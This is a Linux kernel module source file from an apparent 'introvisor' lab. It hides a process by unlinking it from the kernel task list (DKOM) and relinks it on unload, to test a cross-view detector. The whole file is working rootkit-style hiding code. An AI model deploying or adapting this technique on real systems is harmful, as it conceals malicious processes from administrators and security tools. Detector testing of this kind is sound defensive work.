// SPDX-License-Identifier: GPL-2.0
/*
 * Lab attack: DKOM. Unlink a process from the kernel's task list
 * (init_task.tasks) while it stays in the pid IDR and on the run queues,
 * which is what a cross-view detector must catch. Unloading links it back
 * if it is still alive.
 *
 *   insmod iv_dkom_hide.ko pid=123
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include "iv_lookup.h"

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "pid of the process to unlink from the task list");

static struct task_struct *victim;
static rwlock_t *tasklist;

static bool iv_listed(struct task_struct *t)
{
	struct task_struct *p;
	bool found = false;

	rcu_read_lock();
	for_each_process(p)
		if (p == t)
			found = true;
	rcu_read_unlock();
	return found;
}

static int __init iv_init(void)
{
	tasklist = (rwlock_t *)iv_lookup_name("tasklist_lock");
	if (!tasklist)
		return -ENOENT;
	rcu_read_lock();
	victim = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (victim)
		get_task_struct(victim);
	rcu_read_unlock();
	if (!victim) {
		pr_err("iv_dkom_hide: no process with pid %d\n", pid);
		return -ESRCH;
	}
	write_lock_irq(tasklist);
	list_del_rcu(&victim->tasks);
	write_unlock_irq(tasklist);
	/* After a grace period no walker is on the entry: self-link it, so the
	 * task's own exit (list_del_rcu) stays harmless. */
	synchronize_rcu();
	write_lock_irq(tasklist);
	INIT_LIST_HEAD(&victim->tasks);
	write_unlock_irq(tasklist);
	pr_info("iv_dkom_hide: pid %d (%s) unlinked from the task list; for_each_process sees it: %s\n",
		pid, victim->comm, iv_listed(victim) ? "yes" : "no");
	return 0;
}

static void __exit iv_exit(void)
{
	write_lock_irq(tasklist);
	if (pid_alive(victim) && !(victim->flags & PF_EXITING) &&
	    list_empty(&victim->tasks))
		list_add_tail_rcu(&victim->tasks, &init_task.tasks);
	write_unlock_irq(tasklist);
	pr_info("iv_dkom_hide: pid %d relinked; for_each_process sees it: %s\n",
		pid, iv_listed(victim) ? "yes" : "no");
	put_task_struct(victim);
}

module_init(iv_init);
module_exit(iv_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("introvisor lab: DKOM task-list unlink");
